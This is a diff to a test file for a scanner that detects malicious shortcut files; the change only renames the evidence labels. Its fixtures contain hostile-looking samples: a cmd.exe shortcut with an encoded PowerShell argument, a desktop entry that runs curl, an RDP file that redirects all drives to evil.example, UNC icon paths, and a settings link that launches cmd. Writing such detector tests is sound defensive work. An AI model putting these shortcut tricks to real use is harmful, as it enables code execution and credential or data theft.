@@ -129,38 +129,38 @@ describe('files/shortcut', () => {
     const { sightings } = look(shortcut, await subjectOf('invoice.pdf.lnk', powershell))
     expect(sightings.map(({ code }) => code)).toEqual(['FILE_SHORTCUT'])
     const quoted = new Map(sightings[0]?.evidence?.map(({ label, value }) => [label, value]))
-    expect(quoted.get('lnk/target')).toBe('C:\\Windows\\System32\\cmd.exe')
-    expect(quoted.get('lnk/arguments')).toContain('powershell -enc AAAA')
-    expect(quoted.get('lnk/environment')).toBe('%COMSPEC%')
-    expect([...quoted.keys()]).toEqual(expect.arrayContaining(['lnk/minimized', 'lnk/padding', 'lnk/more-behind', 'lnk/icon']))
+    expect(quoted.get('target')).toBe('C:\\Windows\\System32\\cmd.exe')
+    expect(quoted.get('arguments')).toContain('powershell -enc AAAA')
+    expect(quoted.get('environment')).toBe('%COMSPEC%')
+    expect([...quoted.keys()]).toEqual(expect.arrayContaining(['minimized', 'padding', 'more-behind', 'icon']))
   })
 
   it.each<[string, string, string, string]>([
     [
       'a web shortcut',
       '[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\host\\a.ico\r\n',
-      'shortcut/url',
+      'url',
       'https://example.com/',
     ],
     [
       'a desktop entry',
       '[Desktop Entry]\nType=Application\nExec=sh -c "curl example.com"\n',
-      'shortcut/command',
+      'command',
       'sh -c "curl example.com"',
     ],
-    ['a command of the shell', '[Shell]\r\nCommand=2\r\nIconFile=\\\\host\\x\r\n', 'shortcut/icon', '\\\\host\\x'],
-    ['a connection', 'full address:s:evil.example:3389\r\ndrivestoredirect:s:*\r\n', 'shortcut/server', 'evil.example:3389'],
-    ['a query', 'WEB\r\n1\r\nhttps://example.com/a.dat\r\n', 'shortcut/url', 'https://example.com/a.dat'],
+    ['a command of the shell', '[Shell]\r\nCommand=2\r\nIconFile=\\\\host\\x\r\n', 'icon', '\\\\host\\x'],
+    ['a connection', 'full address:s:evil.example:3389\r\ndrivestoredirect:s:*\r\n', 'server', 'evil.example:3389'],
+    ['a query', 'WEB\r\n1\r\nhttps://example.com/a.dat\r\n', 'url', 'https://example.com/a.dat'],
     [
       'a library',
       '<?xml version="1.0"?><libraryDescription><simpleLocation><url>\\\\host\\share</url></simpleLocation></libraryDescription>',
-      'shortcut/url',
+      'url',
       '\\\\host\\share',
     ],
     [
       'a setting',
       '<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></PCSettings>',
-      'shortcut/command',
+      'command',
       '%windir%\\system32\\cmd.exe /c calc',
     ],
   ])('catches %s', async (_name, content, label, value) => {
